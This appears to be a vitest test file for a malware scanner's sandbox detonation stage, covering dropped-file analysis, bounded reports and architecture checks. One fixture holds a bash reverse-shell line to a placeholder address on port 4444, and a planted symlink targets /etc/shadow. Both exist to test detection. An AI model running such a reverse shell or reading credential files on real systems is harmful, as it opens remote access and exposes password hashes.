import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDetectors, type Detectors } from '../../src/analyze/detectors.js';
import type { DetonationResult } from '../../src/detonate/session.js';
import { analyseDroppedFiles, runRecordOf, unrunnableReason } from '../../src/scan/detonation.js';
import type { ResolvedImage } from '../../src/image/types.js';

describe('detonation stage: dropped files and the report', () => {
  let dir: string;
  let detectors: Detectors;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'detonate-dropped-'));
    detectors = await createDetectors();
  }, 60_000);
  afterAll(async () => {
    await detectors?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('runs the static detectors over files the sample dropped: findings are dynamic, pathed in the container, marked dropped', async () => {
    mkdirSync(join(dir, 'upper'), { recursive: true });
    const script = join(dir, 'upper', 'x');
    writeFileSync(script, '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n', { mode: 0o755 });
    const benign = join(dir, 'upper', 'notes.txt');
    writeFileSync(benign, 'nothing to see\n');
    // a planted link to a host file must never be read
    symlinkSync('/etc/shadow', join(dir, 'upper', 'link'));
    const findings = await analyseDroppedFiles(
      [
        { path: '/tmp/x', hostPath: script, size: 48, mode: 0o755 },
        { path: '/tmp/notes.txt', hostPath: benign, size: 15, mode: 0o644 },
        { path: '/tmp/link', hostPath: join(dir, 'upper', 'link'), size: 11, mode: 0o777 },
      ],
      detectors.analyzers,
    );
    const shell = findings.find((f) => f.rule === 'backdoor/reverse-shell-dev-tcp');
    expect(shell, JSON.stringify(findings)).toMatchObject({ category: 'backdoor', source: 'dynamic', path: 'tmp/x', evidence: { droppedAtRuntime: true } });
    expect(shell).not.toHaveProperty('layer');
    expect(findings.every((f) => f.path === 'tmp/x')).toBe(true);
  });

  it('keeps the report bounded: the start of stdout/stderr only, and no raw sinkhole records', () => {
    const result = {
      sandbox: 'runc', durationMs: 1000, exitCode: 0, timedOut: false,
      processes: [], files: [], dns: [], connections: [], kills: [],
      cpu: { seconds: 0, peakCores: 0 }, memory: { peakBytes: 0 }, pids: { peak: 1 },
      limitsHit: { oomKills: 0, pidsLimitHits: 0 }, series: [],
      output: { stdout: 'x'.repeat(100_000), stderr: 'e', truncated: false },
      sinkhole: { events: [], stats: null }, network: { sinkAddress: '10.0.0.1', sampleAddress: '10.0.0.2' },
      timings: { setupMs: 1, teardownMs: 1 },
    } satisfies DetonationResult;
    const behavior = runRecordOf(result);
    expect(behavior.output.stdout.length).toBe(4096);
    expect(behavior.output.truncated).toBe(true);
    expect(behavior).not.toHaveProperty('sinkhole');
    expect(behavior).not.toHaveProperty('network');
  });

  it('does not run images of another architecture or OS, and says why', () => {
    const image = (os: string, architecture: string) => ({ platform: { os, architecture } }) as unknown as ResolvedImage;
    expect(unrunnableReason(image('linux', process.arch === 'arm64' ? 'arm64' : 'amd64'))).toBeUndefined();
    expect(unrunnableReason(image('linux', 's390x'))).toMatch(/built for linux\/s390x and this host runs linux\/\w+ \(no emulation/);
    expect(unrunnableReason(image('windows', 'amd64'))).toMatch(/windows image/);
  });
});
